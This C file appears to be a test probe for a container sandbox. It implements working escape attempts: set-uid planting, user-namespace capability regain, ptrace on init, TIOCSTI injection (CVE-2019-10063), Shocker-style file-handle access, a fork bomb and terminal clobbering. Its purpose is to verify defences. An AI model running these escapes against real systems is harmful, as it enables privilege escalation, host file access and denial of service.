/*
 * escape: one attack per sub-command, for tests/escape/. Exit status:
 *
 *   0        the attack worked (evidence, if any, on stdout)
 *   1..199   it failed: the errno of the call that was refused
 *   200+     the probe itself went wrong (bad usage, an unexpected result)
 *
 * Killed by the seccomp filter, the sandbox reports 128 + SIGSYS = 159.
 * Every attack is written so that it *does* work when the layer that should
 * stop it is switched off: an attack that fails for an unrelated reason
 * (file modes, the user namespace, nodev) would prove nothing.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/io_uring.h>
#include <linux/sched.h>
#include <linux/seccomp.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/file.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#define CAP_SYS_ADMIN 21
#define BAD 200 /* the probe's own failure, never an errno */

static int fail(const char *what)
{
    int e = errno ? errno : BAD;
    fprintf(stderr, "escape: %s: %s\n", what, strerror(e));
    return e;
}

/* Copy fd to stdout: the evidence that a read worked. */
static int dump(int fd)
{
    char buf[4096];
    ssize_t n;
    while ((n = read(fd, buf, sizeof buf)) > 0)
        if (write(1, buf, (size_t)n) != n)
            return BAD;
    return n < 0 ? fail("read") : 0;
}

/* 1 if CAP_SYS_ADMIN is in this process's effective set (from /proc/self/status). */
static int has_sys_admin(void)
{
    char line[256];
    unsigned long long eff = 0;
    FILE *f = fopen("/proc/self/status", "r");
    if (!f)
        return 0;
    while (fgets(line, sizeof line, f))
        if (sscanf(line, "CapEff: %llx", &eff) == 1)
            break;
    fclose(f);
    return (eff >> CAP_SYS_ADMIN) & 1;
}

/* A host directory arrives as fd 0: walk up with ".." to a secret beside it. */
static int read_parent(void)
{
    int fd = openat(0, "../secret", O_RDONLY | O_CLOEXEC);
    return fd < 0 ? fail("openat(0, ../secret)") : dump(fd);
}

/* fd 0 is a host file opened read-only: reopen it for writing through /proc. */
static int reopen_write(void)
{
    int fd = open("/proc/self/fd/0", O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0)
        return fail("open(/proc/self/fd/0, O_WRONLY)");
    return write(fd, "escaped\n", 8) == 8 ? 0 : fail("write");
}

/* Write text (default "escaped") to path, creating it if needed. */
static int write_file(const char *path, const char *text)
{
    size_t n = strlen(text);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        return fail(path);
    return write(fd, text, n) == (ssize_t)n ? 0 : fail("write");
}

/* Leave a set-id file where the host sees it (a writable bind idmapped to
 * its directory's owner: the file is the owner's, so set-uid is the owner's
 * rights for every local user). HOW: "chmod" (write, then chmod 06755),
 * "create" (open(O_CREAT) with 06755), "fchmodat" (the *at form). Checked
 * with stat: a kernel that silently drops the bits is a failure (EPERM). */
static int plant_setid(const char *how, const char *path)
{
    struct stat st;
    int fd;
    if (!strcmp(how, "create")) {
        fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 06755);
        if (fd < 0)
            return fail("open(O_CREAT, 06755)");
        close(fd);
    } else {
        fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0755);
        if (fd < 0)
            return fail("open");
        close(fd);
        if (!strcmp(how, "fchmodat") ? fchmodat(AT_FDCWD, path, 06755, 0) != 0
                                      : chmod(path, 06755) != 0)
            return fail("chmod(06755)");
    }
    if (stat(path, &st) != 0)
        return fail("stat");
    if (!(st.st_mode & S_ISUID)) {
        errno = EPERM;
        return fail("set-uid bit dropped");
    }
    printf("mode %o\n", (unsigned)st.st_mode & 07777);
    return 0;
}

/* Make the read-only root writable again. */
static int remount_rw(void)
{
    struct statvfs st;
    if (mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL) != 0)
        return fail("mount(/, MS_REMOUNT|MS_BIND)");
    if (statvfs("/", &st) != 0 || (st.f_flag & ST_RDONLY))
        return BAD + 1;
    return 0;
}

/* In a new user namespace the creator holds every capability (user_namespaces(7)). */
static int userns(const char *how)
{
    if (strcmp(how, "unshare") == 0) {
        if (unshare(CLONE_NEWUSER) != 0)
            return fail("unshare(CLONE_NEWUSER)");
        return has_sys_admin() ? 0 : BAD + 1;
    }
    long pid;
    if (strcmp(how, "clone") == 0) {
        pid = syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0);
    } else if (strcmp(how, "clone3") == 0) {
        struct clone_args args = {.flags = CLONE_NEWUSER, .exit_signal = SIGCHLD};
        pid = syscall(SYS_clone3, &args, sizeof args);
    } else {
        return BAD;
    }
    if (pid < 0)
        return fail(how);
    if (pid == 0)
        _exit(has_sys_admin() ? 0 : BAD + 1);
    int status;
    if (waitpid((pid_t)pid, &status, 0) < 0 || !WIFEXITED(status))
        return BAD + 2;
    return WEXITSTATUS(status);
}

/* Regained capabilities used for what they are for: mounting. */
static int userns_mount(void)
{
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0)
        return fail("unshare(CLONE_NEWUSER|CLONE_NEWNS)");
    if (mount("escape", "/tmp", "tmpfs", 0, NULL) != 0)
        return fail("mount(tmpfs, /tmp)");
    return 0;
}

/* Attach to a sibling: both are children of this process. */
static int ptrace_sibling(void)
{
    pid_t victim = fork();
    if (victim == 0) {
        pause();
        _exit(0);
    }
    pid_t attacker = fork();
    if (attacker == 0)
        _exit(ptrace(PTRACE_SEIZE, victim, 0, 0) == 0 ? 0 : fail("ptrace(PTRACE_SEIZE)"));
    int status;
    waitpid(attacker, &status, 0);
    kill(victim, SIGKILL);
    waitpid(victim, NULL, 0);
    return WIFSIGNALED(status) ? 128 + WTERMSIG(status) : WEXITSTATUS(status);
}

/* The container's init (PID 1) holds every capability of the run's user
 * namespace and is outside Landlock and seccomp: reach it three ways.
 * (/proc/1/mem is no test: its inode belongs to init's unmapped uid, so file
 * modes refuse it whatever the layers do.) */
static int reach_init(const char *how)
{
    if (strcmp(how, "ptrace") == 0) {
        if (ptrace(PTRACE_SEIZE, 1, 0, 0) != 0)
            return fail("ptrace(PTRACE_SEIZE, 1)");
        ptrace(PTRACE_DETACH, 1, 0, 0);
        return 0;
    }
    if (strcmp(how, "root") == 0) { /* /proc/1/root: a ptrace-mode access check */
        int fd = open("/proc/1/root/box", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        return fd < 0 ? fail("open(/proc/1/root/box)") : 0;
    }
    if (strcmp(how, "kill") == 0) /* signal 0: the permission check alone */
        return kill(1, 0) == 0 ? 0 : fail("kill(1, 0)");
    return BAD;
}

static int io_uring(void)
{
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    long fd = syscall(SYS_io_uring_setup, 4, &p);
    return fd < 0 ? fail("io_uring_setup") : 0;
}

/* Type into the terminal on fd 0 (a pty the test passes in), after making it
 * our controlling terminal; "high" sets bit 32 of the request, which the
 * kernel drops (unsigned int cmd): CVE-2019-10063 in bubblewrap. */
static int tiocsti(const char *variant)
{
    unsigned long cmd = TIOCSTI;
    char c = '#';
    if (strcmp(variant, "high") == 0)
        cmd |= 1UL << 32;
    if (setsid() < 0 && getsid(0) != getpid())
        return fail("setsid");
    if (ioctl(0, TIOCSCTTY, 0) != 0)
        return fail("ioctl(TIOCSCTTY)");
    if (syscall(SYS_ioctl, 0, cmd, &c) != 0)
        return fail("ioctl(TIOCSTI)");
    return 0;
}

/* Open a directory by handle relative to the mount of mountdir (Shocker's
 * call). Since Linux 6.10 a holder of CAP_SYS_ADMIN over the mount's
 * namespace and CAP_DAC_READ_SEARCH may decode handles of directories under
 * that mount (O_DIRECTORY only); before, only CAP_DAC_READ_SEARCH in the
 * initial namespace could, and no container payload ever has that. */
static int by_handle(const char *path, const char *mountdir)
{
    struct {
        struct file_handle fh;
        unsigned char bytes[MAX_HANDLE_SZ];
    } h;
    int mount_id;
    /* A directory of our own: every inode from it up to the mount's root must
     * have an owner mapped in our user namespace, or the kernel says ESTALE. */
    if (mkdir(path, 0755) != 0 && errno != EEXIST)
        return fail("mkdir");
    h.fh.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, &h.fh, &mount_id, 0) != 0)
        return fail("name_to_handle_at");
    int mfd = open(mountdir, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0)
        return BAD + 1;
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY);
    return fd < 0 ? fail("open_by_handle_at") : 0;
}

/* Fork until refused or n children exist; print how many were made. */
static int fork_bomb(int n)
{
    int made = 0, err = 0;
    pid_t *kids = calloc((size_t)n, sizeof *kids);
    if (!kids)
        return BAD;
    while (made < n) {
        pid_t pid = fork();
        if (pid < 0) {
            err = errno;
            break;
        }
        if (pid == 0) {
            pause();
            _exit(0);
        }
        kids[made++] = pid;
    }
    printf("%d\n", made);
    for (int i = 0; i < made; i++)
        kill(kids[i], SIGKILL);
    while (wait(NULL) > 0)
        ;
    return made == n ? 0 : err;
}

/* A raw socket: forge packets, sniff (in the network namespace it is in). */
static int raw_socket(void)
{
    int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
    return s < 0 ? fail("socket(AF_INET, SOCK_RAW)") : 0;
}

/* Connect to a listener of the host's and print what it says. */
static int connect_to(int family, const char *where)
{
    struct sockaddr_storage ss;
    socklen_t len;
    memset(&ss, 0, sizeof ss);
    if (family == AF_INET) {
        struct sockaddr_in *in = (struct sockaddr_in *)&ss;
        in->sin_family = AF_INET;
        in->sin_port = htons((uint16_t)atoi(where));
        in->sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        len = sizeof *in;
    } else { /* abstract unix socket: sun_path starts with a NUL byte */
        struct sockaddr_un *un = (struct sockaddr_un *)&ss;
        un->sun_family = AF_UNIX;
        size_t n = strnlen(where, sizeof un->sun_path - 1);
        memcpy(un->sun_path + 1, where, n);
        len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
    }
    int s = socket(family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return fail("socket");
    if (connect(s, (struct sockaddr *)&ss, len) != 0)
        return fail("connect");
    return dump(s);
}

/* Run a file-capability binary after giving up every capability we hold
 * (ambient cleared, then an exec without file caps clears the rest). */
static int filecap(const char *self, const char *path, int stage)
{
    if (stage == 0) {
        if (prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_CLEAR_ALL, 0, 0, 0) != 0)
            return fail("prctl(PR_CAP_AMBIENT_CLEAR_ALL)");
        execl(self, self, "filecap-exec", path, (char *)NULL);
        return fail("execve(self)");
    }
    if (has_sys_admin())
        return BAD + 1; /* still privileged: the test would prove nothing */
    execl(path, path, "capeff", (char *)NULL);
    return fail("execve(file-cap binary)");
}

/* Forge a violation: a filter of our own kills us with SIGSYS on getppid, a
 * call the sandbox allows. Only the supervisor's own record may say
 * SECURITY_VIOLATION (issue 13 item 4): ours must read as a runtime error. */
static int self_filter(void)
{
    struct sock_filter insns[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_KILL_PROCESS),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog prog = {sizeof insns / sizeof insns[0], insns};
    if (prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0)
        return fail("prctl(PR_SET_NO_NEW_PRIVS)");
    if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &prog, 0, 0) != 0)
        return fail("prctl(PR_SET_SECCOMP)");
    syscall(SYS_getppid);
    return BAD + 2; /* our own filter did not kill us */
}

/* Change the terminal on the first of fds 0-2 that is one, for good: line
 * discipline N_NULL, echo and canonical mode off, exclusive mode (issue 13
 * item 3). 0 when it took all three; the first refusal's errno otherwise. */
static int tty_clobber(void)
{
    int done = 0, ttys = 0;
    char msg[32];
    for (int fd = 0; fd <= 2; fd++)
        ttys += isatty(fd);
    /* said before: a terminal set to N_NULL drops what is written to it, too */
    snprintf(msg, sizeof msg, "terminals %d\n", ttys);
    if (write(1, msg, strlen(msg)) < 0)
        return BAD;
    for (int fd = 0; fd <= 2; fd++) {
        struct termios t;
        int ldisc = 27; /* N_NULL: the terminal then drops all input */
        if (!isatty(fd))
            continue;
        if (tcgetattr(fd, &t) != 0)
            return fail("tcgetattr");
        t.c_lflag &= ~(tcflag_t)(ECHO | ICANON);
        if (tcsetattr(fd, TCSANOW, &t) != 0)
            return fail("tcsetattr");
        if (ioctl(fd, TIOCEXCL) != 0)
            return fail("ioctl(TIOCEXCL)");
        if (ioctl(fd, TIOCSETD, &ldisc) != 0)
            return fail("ioctl(TIOCSETD)");
        done++;
        break; /* the first one is the terminal (all three usually are) */
    }
    if (!done) { /* no terminal to change: the errno says so (ENOTTY) */
        struct termios t;
        errno = 0;
        if (tcgetattr(0, &t) != 0)
            return fail("tcgetattr(0)");
        return BAD + 3;
    }
    return 0;
}

/* Hold an exclusive flock on a file of the shared lower layer (issue 13
 * item 7): say so on stdout, then keep it for SECONDS. */
static int hold_flock(const char *path, const char *seconds)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return fail("open");
    if (flock(fd, LOCK_EX | LOCK_NB) != 0)
        return fail("flock");
    printf("locked\n");
    fflush(stdout);
    sleep((unsigned)atoi(seconds));
    return 0;
}

int main(int argc, char **argv)
{
    const char *cmd = argc > 1 ? argv[1] : "";
    const char *arg = argc > 2 ? argv[2] : "";
    errno = 0;
    if (!strcmp(cmd, "read-parent"))
        return read_parent();
    if (!strcmp(cmd, "self-filter"))
        return self_filter();
    if (!strcmp(cmd, "tty-clobber"))
        return tty_clobber();
    if (!strcmp(cmd, "flock") && argc > 3)
        return hold_flock(arg, argv[3]);
    if (!strcmp(cmd, "reopen-write"))
        return reopen_write();
    if (!strcmp(cmd, "write"))
        return write_file(arg, argc > 3 ? argv[3] : "escaped\n");
    if (!strcmp(cmd, "setid") && argc > 3)
        return plant_setid(arg, argv[3]);
    if (!strcmp(cmd, "remount-rw"))
        return remount_rw();
    if (!strcmp(cmd, "userns"))
        return userns(arg);
    if (!strcmp(cmd, "userns-mount"))
        return userns_mount();
    if (!strcmp(cmd, "ptrace-sibling"))
        return ptrace_sibling();
    if (!strcmp(cmd, "init"))
        return reach_init(arg);
    if (!strcmp(cmd, "io-uring"))
        return io_uring();
    if (!strcmp(cmd, "tiocsti"))
        return tiocsti(arg);
    if (!strcmp(cmd, "handle") && argc > 3)
        return by_handle(arg, argv[3]);
    if (!strcmp(cmd, "fork-bomb"))
        return fork_bomb(atoi(arg));
    if (!strcmp(cmd, "raw"))
        return raw_socket();
    if (!strcmp(cmd, "tcp"))
        return connect_to(AF_INET, arg);
    if (!strcmp(cmd, "abstract"))
        return connect_to(AF_UNIX, arg);
    if (!strcmp(cmd, "capeff")) /* the file-capability binary's job */
        return has_sys_admin() ? 0 : EPERM;
    if (!strcmp(cmd, "filecap"))
        return filecap(argv[0], arg, 0);
    if (!strcmp(cmd, "filecap-exec"))
        return filecap(argv[0], arg, 1);
    fprintf(stderr, "usage: escape ATTACK [ARG...] (see the source)\n");
    return BAD;
}
